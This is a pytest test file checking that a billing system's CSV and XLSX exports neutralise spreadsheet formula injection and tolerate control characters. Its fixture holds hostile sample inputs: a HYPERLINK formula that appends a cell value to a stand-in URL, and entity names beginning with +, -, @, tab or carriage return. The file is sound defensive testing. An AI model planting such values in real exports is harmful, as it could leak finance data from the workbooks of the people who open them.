"""Billing exports that cannot attack (issue 13): names typed by self-service clients reach finance's
CSV and XLSX as text, never as formulas; a control character in a name or a note neither stops the
month from closing nor breaks its workbook; amounts stay numbers. Drafts (streamed) and closed runs
(the frozen bytes rendered at closing) alike."""

import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest

from billing import exports
from billing.exports import CSV_HEADER
from billing.models import BillingLine, Tariff
from billing.services import billing_run_close, billing_run_compute
from dropcopy_admin import clock
from dropcopy_admin.choices import Environment, GroupStatus
from dropcopy_admin.services.audit import SystemActor
from tests import factories
from tests.support import downloaded

pytestmark = pytest.mark.django_db

ACTOR = SystemActor("billing-test")
MAY = dt.date(2025, 5, 1)
RUNS = "/api/v1/billing/runs/"

HYPERLINK = '=HYPERLINK("http://x"&B2,"Invoice")'
FORMULA_LIKE_ENTITY_NAMES = ["+1+1 Trading", "-2+3 Capital", "@SUM(A1:A9) Markets", "\tTab Futures", "\rReturn LLC"]
CONTROL_NAME = "Acme\u0006 Corp\u000b"
CONTROL_NOTE = "April\u0006 over-billed\u000b, see ticket 42"
CREDIT = Decimal("-125.50")


def utc(*args) -> dt.datetime:
    return dt.datetime(*args, tzinfo=dt.UTC)


def open_group(entity, *, name=None):
    extra = {"name": name} if name else {}
    return factories.GroupFactory(
        entity=entity, environment=Environment.PRODUCTION, status=GroupStatus.ACTIVE, opened_at=utc(2025, 4, 1), **extra
    )


@pytest.fixture
def hostile_draft():
    """May 2025 as a draft whose names and notes were typed by an attacker or a careless user (stored
    as they are, as older rows may be): a group named like a formula, entities whose names begin
    like formulas, and an entity name and an adjustment note holding control characters."""
    clock.freeze(utc(2025, 6, 15, 12))
    Tariff.objects.update_or_create(
        effective_month=dt.date(2025, 1, 1), defaults={"free_groups": 0, "monthly_fee": Decimal("500.00")}
    )
    open_group(factories.EntityFactory(code="HOOK"), name=HYPERLINK)
    for name in FORMULA_LIKE_ENTITY_NAMES:
        open_group(factories.EntityFactory(name=name))
    acme = factories.EntityFactory(code="ACME", name=CONTROL_NAME)
    open_group(acme)
    run = billing_run_compute(actor=ACTOR, month=MAY)
    BillingLine.objects.create(
        run=run,
        entity=acme,
        bill_to=acme,
        amount=CREDIT,
        reason="adjustment",
        corrects_month=dt.date(2025, 4, 1),
        note=CONTROL_NOTE,
    )
    return billing_run_compute(actor=ACTOR, month=MAY)


def csv_lines(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def workbook(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data))


def line_cells(book) -> list[dict]:
    """The lines sheet as one dict of openpyxl cells per line, keyed by ``CSV_HEADER``."""
    header, *rows = book["lines"].iter_rows()
    assert [cell.value for cell in header] == CSV_HEADER
    return [dict(zip(CSV_HEADER, row, strict=False)) for row in rows]


def both_exports(api, fmt: str) -> dict[str, bytes]:
    """The run's export in ``fmt`` through the API while a draft (streamed) and once closed (the
    stored bytes)."""
    draft = downloaded(api.get(f"{RUNS}2025-05/export.{fmt}"))
    closed = billing_run_close(actor=ACTOR, month=MAY)
    stored = downloaded(api.get(f"{RUNS}2025-05/export.{fmt}"))
    assert stored == bytes(getattr(closed, f"{fmt}_bytes"))
    return {"draft": draft, "closed": stored}


def test_csv_cells_that_begin_like_formulas_begin_with_an_apostrophe(hostile_draft, finance_api):
    for data in both_exports(finance_api, "csv").values():
        lines = csv_lines(data)
        (hooked,) = (line for line in lines if line["entity_code"] == "HOOK")
        assert hooked["group_name"] == "'" + HYPERLINK
        names = {line["entity_name"] for line in lines}
        assert {"'" + name for name in FORMULA_LIKE_ENTITY_NAMES} <= names
        assert not any(value.startswith(("=", "+", "@", "\t", "\r")) for line in lines for value in line.values())


def test_xlsx_cells_that_begin_like_formulas_are_strings_never_formulas(hostile_draft, finance_api):
    for data in both_exports(finance_api, "xlsx").values():
        book = workbook(data)
        lines = line_cells(book)
        (hooked,) = (line for line in lines if line["entity_code"].value == "HOOK")
        assert (hooked["group_name"].value, hooked["group_name"].data_type) == (HYPERLINK, "s")
        named = {line["entity_name"].value: line["entity_name"] for line in lines}
        for name in FORMULA_LIKE_ENTITY_NAMES:
            # A carriage return is stored as OOXML's escape _x000D_, which Excel shows as the
            # character and openpyxl leaves as written.
            cell = named[name.replace("\r", "_x000D_")]
            assert (cell.data_type, cell.quotePrefix) == ("s", True)
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]


def test_control_characters_neither_block_closing_nor_break_the_workbooks(hostile_draft, finance_api):
    draft_response = finance_api.get(f"{RUNS}2025-05/export.xlsx")
    assert draft_response.status_code == 200
    draft_xlsx = downloaded(draft_response)

    closed = billing_run_close(actor=ACTOR, month=MAY)

    assert closed.status == "closed"
    for data in (draft_xlsx, bytes(closed.xlsx_bytes)):
        acme = [line for line in line_cells(workbook(data)) if line["entity_code"].value == "ACME"]
        assert {line["entity_name"].value for line in acme} == {"Acme Corp"}
        assert {line["note"].value for line in acme} == {None, "April over-billed, see ticket 42"}
        totals = {row[0]: row[1] for row in workbook(data)["totals"].iter_rows(min_row=2, values_only=True)}
        assert totals["ACME"] == "Acme Corp"
    acme_csv = [line for line in csv_lines(bytes(closed.csv_bytes)) if line["entity_code"] == "ACME"]
    assert {line["note"] for line in acme_csv} == {"", "April over-billed, see ticket 42"}


def test_a_negative_adjustment_amount_is_a_plain_number_in_the_csv(hostile_draft, finance_api):
    for data in both_exports(finance_api, "csv").values():
        amounts = [line["amount"] for line in csv_lines(data) if line["reason"] == "adjustment"]
        assert amounts == ["-125.50"]  # no apostrophe: a credit, not a formula


def test_amounts_are_numbers_in_the_xlsx(hostile_draft, finance_api):
    for data in both_exports(finance_api, "xlsx").values():
        book = workbook(data)
        (credit,) = (line["amount"] for line in line_cells(book) if line["reason"].value == "adjustment")
        assert (credit.value, credit.data_type, credit.number_format) == (CREDIT, "n", "0.00")
        totals = {row[0].value: row[2] for row in book["totals"].iter_rows(min_row=2)}
        assert (totals["ACME"].value, totals["ACME"].data_type) == (Decimal("500.00") + CREDIT, "n")


def test_a_draft_streams_the_cells_closing_renders(hostile_draft):
    lines = hostile_draft.lines.select_related("entity", "bill_to", "group").order_by("id")
    rows = exports.line_rows(hostile_draft, lines)

    assert b"".join(exports.draft_stream(hostile_draft, "csv")) == exports.render_csv(rows)
    streamed = workbook(b"".join(exports.draft_stream(hostile_draft, "xlsx")))
    rendered = workbook(exports.render_xlsx(hostile_draft, rows))
    for name in ("lines", "totals"):
        as_streamed = [[(c.value, c.data_type, c.quotePrefix) for c in row] for row in streamed[name].iter_rows()]
        as_rendered = [[(c.value, c.data_type, c.quotePrefix) for c in row] for row in rendered[name].iter_rows()]
        assert as_streamed == as_rendered
